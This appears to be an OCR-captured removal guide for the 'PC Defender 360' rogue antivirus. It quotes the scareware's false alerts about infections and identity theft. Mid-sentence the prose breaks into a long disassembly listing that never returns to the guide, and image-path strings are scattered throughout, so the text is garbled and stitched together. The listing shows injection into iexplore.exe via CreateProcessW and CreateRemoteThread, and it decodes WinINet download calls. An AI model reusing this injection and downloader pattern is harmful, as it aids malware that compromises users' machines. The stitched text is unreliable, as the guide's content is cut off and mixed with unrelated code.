How to Remove PC Defender 360? (Removal Guide)

Have unexpected program PC Defender 360 installed on your PC? Experience constantly pop-up message from PC Defender 360? Tried to uninstall the unexpectedly program by failed? This post will introduce you how to remove PC Defender 360 virus in detail. Please read more.

About PC Defender 360:


PC Defender 360 is a virus infection belongs to the Rogue.PCDefPlus family. It is a scam which may infect your computer that is not well protected and pretends to be a legitimate security program and alert you fake message that viruses, spywares and Trojans detected on your PC, and then pop-up a new window informing you that youneed to pay money to register the software or pay money to remove these non-existent threats from your computer and protect your PC from malware infection.


Screenshot of PC Defender 360 fake program:

PC Defender 360 virus


Fake warning message alerted by PC Defender 360 you may see:

Security Alert
Vulnerabilities Found
Background scan for security breaches has been finished. Serious problems have been detected. Safeguard your system against exploits, malware and viruses right now by activating Proactive Defence.
Upgrade to full version of PC Defender 360 software package now!
Clean your system and ward off new attacks against your system integrity and sensitive data.
FREE daily updates and online protection from web-based intrusions are already in the bundle.

Security Alert
Unknown program is scanning your system registry right now! Identity theft detected!

Attack from
Port 1390Attack port 978

fake message alerted by PC Defender 360


PC Defender 360 Firewall Alert

An application taskmgr.exe is infected with not-a-virus:AdWare.Win32.Sushi.a. Private data can be stolen by third parties, including creditcard details and passwords.

Name: taskmgr.exe
Version: 6.1.7600.16385 (win7-rtm.090713-1255)
Company: Microsoft Corporation
Location: C:\Windows\system32\taskmgr.exe

Windows recommends activating PC Defender 360.

Click Activate to register your copy of PC Defender 360 and perform threat removal on your system.

fake PC Defender 360 firewall alert


Behavior and damage of PC Defender 360:


PC Defender 360 is very annoying and damaging that once get settled on your computer; it infects your Internet Explorer and visits malicious website,, and009D11F1    55                  push ebp
009D11F2    8BEC                mov ebp,esp
009D11F4    B8 64100000         mov eax,0x1064
009D11F9    E8 C2CF0000         call 009DE1C0
009D11FE    53                  push ebx
009D11FF    56                  push esi
009D1200    57                  push edi
009D1201    33F6                xor esi,esi
009D1203    6A 10               push 0x10
009D1205    8D45 E8             lea eax,dword ptr ss:[ebp-0x18]
009D1208    56                  push esi
009D1209    50                  push eax
009D120A    8975 FC             mov dword ptr ss:[ebp-0x4],esi
009D120D    E8 FEC30000         call 009DD610
009D1212    6A 44               push 0x44
009D1214    5F                  pop edi
009D1215    57                  push edi
009D1216    8D45 A0             lea eax,dword ptr ss:[ebp-0x60]
009D1219    56                  push esi
009D121A    50                  push eax
009D121B    E8 F0C30000         call 009DD610
009D1220    897D A0             mov dword ptr ss:[ebp-0x60],edi
009D1223    33C0                xor eax,eax
009D1225    BF 00080000         mov edi,0x800
009D122A    57                  push edi
009D122B    66:8945 D0          mov word ptr ss:[ebp-0x30],ax
009D122F    33DB                xor ebx,ebx
009D1231    8D85 A0F7FFFF       lea eax,dword ptr ss:[ebp-0x860]
009D123756                  push esi
009D1238    43                  inc ebx
009D1239    50                  push eax
009D123A    895D CC             mov dword ptr ss:[ebp-0x34],ebx
009D123D    E8 CEC30000         call 009DD610
009D1242    57                  push edi
009D1243    8D85 A0EFFFFF       lea eax,dword ptr ss:[ebp-0x1060]
009D1249    56                  push esi
009D124A    50                  push eax
009D124B    E8 C0C30000         call 009DD610
009D1250    83C4 30             add esp,0x30
009D1253    8D45 F8             lea eax,dword ptr ss:[ebp-0x8]
009D1256    50                  push eax
009D1257    8D85 A0F7FFFF       lea eax,dword ptr ss:[ebp-0x860]
009D125D    50                  push eax
009D125E    68 68F19D00         push 0x9DF168                            ; open
009D1263    68 74F19D00         push 0x9DF174                            ; http
009D1268    6A 02               push 0x2
009D126A    56                  push esi
009D126B    C745 F8 00040000    mov dword ptr ss:[ebp-0x8],0x400
009D1272    FF15 FCF09D00       call dword ptr ds:[0x9DF0FC]             ; shlwapi.AssocQueryStringW
009D1278    8D8D A0F7FFFF       lea ecx,dword ptr ss:[ebp-0x860]
009D127E    E8 5DC40000         call 009DD6E0009D1283    85C0                test eax,eax
009D1285    74 43               je short 009D12CA
009D1287    E8 24C50000         call 009DD7B0
009D128C    3BC6                cmp eax,esi
009D128E    74 13               je short 009D12A3
009D1290    8BF8                mov edi,eax
009D1292    8BC1                mov eax,ecx
009D1294    2BF8                sub edi,eax
009D1296    D1FF                sar edi,1
009D1298    8D95 A0EFFFFF       lea edx,dword ptr ss:[ebp-0x1060]
009D129E    E8 0DC40000         call 009DD6B0
009D12A3    8D45 E8             lea eax,dword ptr ss:[ebp-0x18]
009D12A6    50                  push eax
009D12A7    8D45 A0             lea eax,dword ptr ss:[ebp-0x60]
009D12AA    50                  push eax
009D12AB    8D85 A0EFFFFF       lea eax,dword ptr ss:[ebp-0x1060]
009D12B1    50                  push eax
009D12B2    56                  push esi
009D12B3    6A 04               push 0x4
009D12B5    53                  push ebx
009D12B6    56                  push esi
009D12B7    56                  push esi
009D12B8    8D85 A0F7FFFF       leaeax,dword ptr ss:[ebp-0x860]
009D12BE    50                  push eax
009D12BF    56                  push esi
009D12C0    FF15 C8F09D00       call dword ptr ds:[0x9DF0C8]             ; kernel32.CreateProcessW
009D12C6    85C0                test eax,eax
009D12C8    75 65               jnz short 009D132F
009D12CA    53                  push ebx
009D12CB    6A 26               push 0x26
009D12CD    8D85 A0EFFFFF       lea eax,dword ptr ss:[ebp-0x1060]
009D12D3    50                  push eax
009D12D4    56                  push esi
009D12D5    FF15 F0F09D00       call dword ptr ds:[0x9DF0F0]             ; shell32.SHGetSpecialFolderPathW
009D12DB    B9 80F19D00         mov ecx,0x9DF180                         ; \Internet Explorer
009D12E0    8D85 A0EFFFFF       lea eax,dword ptr ss:[ebp-0x1060]
009D12E6    E8 05C40000         call 009DD6F0
009D12EB    8BC8                mov ecx,eax
009D12ED    8D95 A0F7FFFF       lea edx,dword ptr ss:[ebp-0x860]
009D12F3    E8 88C30000         call 009DD680
009D12F8    B9 A8F19D00         mov ecx,0x9DF1A8                         ; \iexplore.exe
009D12FD    8D85 A0F7FFFF       lea eax,dword ptr ss:[ebp-0x860]
009D1303    E8 E8C30000         call 009DD6F0009D1308    8D45 E8             lea eax,dword ptr ss:[ebp-0x18]
009D130B    50                  push eax
009D130C    8D45 A0             lea eax,dword ptr ss:[ebp-0x60]
009D130F    50                  push eax
009D1310    8D85 A0EFFFFF       lea eax,dword ptr ss:[ebp-0x1060]
009D1316    50                  push eax
009D1317    56                  push esi
009D1318    6A 04               push 0x4
009D131A    53                  push ebx
009D131B    56push esi
009D131C    56                  push esi
009D131D    8D85A0F7FFFF       lea eax,dword ptr ss:[ebp-0x860]
009D1323    50                  push eax
009D1324    56                  push esi
009D1325    FF15 C8F09D00       call dword ptr ds:[0x9DF0C8]             ; kernel32.CreateProcessW
009D132B    85C0                test eax,eax
009D132D    74 1E               je short 009D134D
009D132F    FF75 EC             push dword ptr ss:[ebp-0x14]
009D1332    FF15 C0F09D00       call dword ptr ds:[0x9DF0C0]             ; kernel32.CloseHandle
009D1338    8B45 E8             mov eax,dword ptr ss:[ebp-0x18]
009D133B    8945 FC             mov dword ptr ss:[ebp-0x4],eax
009D133E    3BC6                cmp eax,esi009D1340    74 0B               je short 009D134D
009D1342    68 E8030000         push 0x3E8
009D1347    FF15 80F09D00call dword ptr ds:[0x9DF080]             ; kernel32.Sleep
009D134D    8B45 FC             mov eax,dword ptr ss:[ebp-0x4]
009D1350    5F                  pop edi
009D1351    5E                  pop esi
009D1352    5B                  pop ebx
009D1353    C9                  leave
009D1354    C3                  retn
009D1355    56                  push esi
009D1356    33C0                xor eax,eax
009D1358    50                  push eax
009D1359    50                  push eax
009D135A    50                  push eax
009D135B    FF35 20F09D00       push dword ptr ds:[0x9DF020]             ;kernel32.ExitProcess
009D1361    50                  push eax
009D1362    50                  push eax
009D1363    FF7424 20           push dword ptr ss:[esp+0x20]
009D1367    FF15 1CF09D00       call dword ptr ds:[0x9DF01C]             ; kernel32.CreateRemoteThread
009D136D    8B35 C0F09D00       mov esi,dword ptr ds:[0x9DF0C0]          ; kernel32.CloseHandle
009D1373    50                  push eax
009D1374    FFD6                call esi
009D1376    FF7424 08           push dword ptr ss:[esp+0x8]
009D137A    FFD6                call esi
009D137C    5E                  pop esi
009D137D    C3                  retn
009D137E    55                  push ebp
009D137F    8BEC                mov ebp,esp
009D1381    81EC 54050000       sub esp,0x554
009D1387    53                  push ebx
009D1388    33DB                xor ebx,ebx
009D138A    B8 EC119D00         mov eax,0x9D11EC009D138F    56                  push esi
009D1390    57                  push edi
009D1391    895D F8             mov dword ptr ss:[ebp-0x8],ebx
009D1394    3D 00109D00         cmp eax,0x9D1000
009D1399    0F86 31020000       jbe 009D15D0
009D139F    68 38050000         push 0x538
009D13A4    8D85 B0FAFFFF       lea eax,dword ptr ss:[ebp-0x550]
009D13AA    53                  push ebx
009D13AB    50                  push eax
009D13AC    E8 5FC20000         call 009DD610
009D13B1    A1 24F09D00         mov eax,dword ptr ds:[0x9DF024]
009D13B6    8985 B0FAFFFF       mov dword ptr ss:[ebp-0x550],eax
009D13BC    A1 28F09D00         mov eax,dword ptr ds:[0x9DF028]
009D13C1    8985 B4FAFFFF       mov dword ptr ss:[ebp-0x54C],eax
009D13C7    A1 2CF09D00         mov eax,dword ptr ds:[0x9DF02C]
009D13CC    8985 B8FAFFFF       mov dword ptr ss:[ebp-0x548],eax
009D13D2    A1 30F09D00         mov eax,dword ptr ds:[0x9DF030]
009D13D7    8985 BCFAFFFF       movdword ptr ss:[ebp-0x544],eax
009D13DD    A1 34F09D00         mov eax,dword ptr ds:[0x9DF034]
009D13E2    8985 C0FAFFFF       mov dword ptr ss:[ebp-0x540],eax
009D13E8    8D85 C4FAFFFF       lea eax,dword ptr ss:[ebp-0x53C]
009D13EE    BA C4F19D00         mov edx,0x9DF1C4                         ; InternetOpenW
009D13F3    8BF0                mov esi,eax
009D13F5    83C4 0C             add esp,0xC
009D13F8    B1 49               mov cl,0x49
009D13FA    2BD6                sub edx,esi
009D13FC    8808                movbyte ptr ds:[eax],cl
009D13FE    40                  inc eax
009D13FF    8A0C02              mov cl,byte ptr ds:[edx+eax]
009D1402    3ACB                cmp cl,bl
009D1404  ^ 75 F6               jnz short 009D13FC
009D1406    8818                mov byte ptr ds:[eax],bl
009D1408    8D85 DCFAFFFF       lea eax,dword ptr ss:[ebp-0x524]
009D140E    BA D4F19D00         mov edx,0x9DF1D4                         ; InternetOpenUrlW
009D1413    8BF0                mov esi,eax
009D1415    B1 49               mov cl,0x49
009D1417    2BD6                sub edx,esi
009D1419    8808                mov byte ptr ds:[eax],cl
009D141B    40                  inc eax
009D141C    8A0C02              mov cl,byte ptr ds:[edx+eax]
009D141F    3ACB                cmp cl,bl
009D1421  ^ 75 F6               jnz short 009D1419
009D1423    8818                mov byte ptr ds:[eax],bl
009D1425    8D85 F4FAFFFF       lea eax,dword ptr ss:[ebp-0x50C]
009D142B    BA E8F19D00         mov edx,0x9DF1E8                         ; InternetReadFile
009D1430    8BF0                mov esi,eax
009D1432    B1 49               mov cl,0x49
009D1434    2BD6                sub edx,esi
009D1436    8808                mov byte ptr ds:[eax],cl
009D1438    40                  inc eax
009D1439    8A0C02              mov cl,byte ptrds:[edx+eax]
009D143C    3ACB                cmp cl,bl
009D143E  ^ 75 F6               jnz short 009D1436
009D1440    8818                mov byte ptr ds:[eax],bl
009D1442    8D85 0CFBFFFF       lea eax,dword ptr ss:[ebp-0x4F4]
